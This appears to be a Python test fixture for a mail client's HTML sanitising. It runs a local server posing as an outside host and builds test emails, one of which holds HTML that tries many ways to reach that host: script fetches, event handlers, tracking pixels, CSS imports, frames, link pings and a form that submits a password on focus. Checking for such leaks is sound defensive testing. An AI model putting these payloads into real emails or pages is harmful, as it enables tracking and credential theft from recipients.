"""Three mails that arrive, and the host outside to which the nastiest of them would like to talk."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

EMPLOYEE = "sam@harbour.example"
TERMS_NAME, TERMS = "terms.txt", b"Terms of the March order: pay within 30 days.\n"
SUBJECT, PRIVATE, PLAIN = "Refund for the March order", "Private: my doctor's letter", "Lunch on Friday"


@dataclass
class Outside:
    """A real host that no page of ours may ever ask for anything."""

    port: int
    asked: list[str] = field(default_factory=list)

    @property
    def address(self) -> str:
        """Where it is."""
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def listening() -> Iterator[Outside]:
    """The host outside, writing down whoever asks."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            outside.asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  the name that the base class calls

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        outside = Outside(server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield outside
        server.shutdown()


def nasty(outside: str) -> str:
    """HTML that tries every way out of a page that we know of."""
    return f"""<html><head><base href="{outside}/base/"><meta http-equiv="refresh" content="0;url={outside}/refresh">
<link rel="stylesheet" href="{outside}/style.css"><style>@import "{outside}/import.css";
body {{ background: url({outside}/background.png) }}</style></head>
<body onload="fetch('{outside}/onload')"><p>The harbour crane order of <b>March</b> is refunded.</p>
<script>fetch("{outside}/script"); top.location = "{outside}/top"</script>
<img src="{outside}/pixel.gif" onerror="fetch('{outside}/onerror')"><img srcset="{outside}/set.gif 1x">
<svg onload="fetch('{outside}/svg')"><image href="{outside}/svg.png"/></svg>
<iframe src="{outside}/frame"></iframe><object data="{outside}/object"></object><embed src="{outside}/embed">
<video poster="{outside}/poster.png" autoplay src="{outside}/film.mp4"></video><audio autoplay src="{outside}/a"></audio>
<form action="{outside}/form" method="post"><input name="password" autofocus onfocus="this.form.submit()">
<button>Sign in again</button></form><div style="background: url('{outside}/inline.png')">inline</div>
<a id="way-out" href="{outside}/link" ping="{outside}/ping" target="_top">Your refund</a></body></html>"""


def mails(outside: str) -> tuple[EmailMessage, ...]:
    """One with nasty HTML and an attachment, one that is private, one of no interest."""
    offer = _mail("kestrel@supplier.example", SUBJECT, "The harbour crane order of March is refunded.")
    offer.add_alternative(nasty(outside), subtype="html")
    offer.add_attachment(TERMS, maintype="text", subtype="plain", filename=TERMS_NAME)
    private = _mail("surgery@clinic.example", PRIVATE, "Your blood is fine.")
    private["Sensitivity"] = "Private"
    return offer, private, _mail("lee@harbour.example", PLAIN, "Shall we go to the canteen?")


def _mail(sender: str, subject: str, text: str) -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, f"Sam Reed <{EMPLOYEE}>", subject
    message["Date"] = "Tue, 03 Mar 2026 10:15:00 +0000"
    message["Message-ID"] = f"<{subject.encode().hex()}@{sender.partition('@')[2]}>"
    message.set_content(text)
    return message
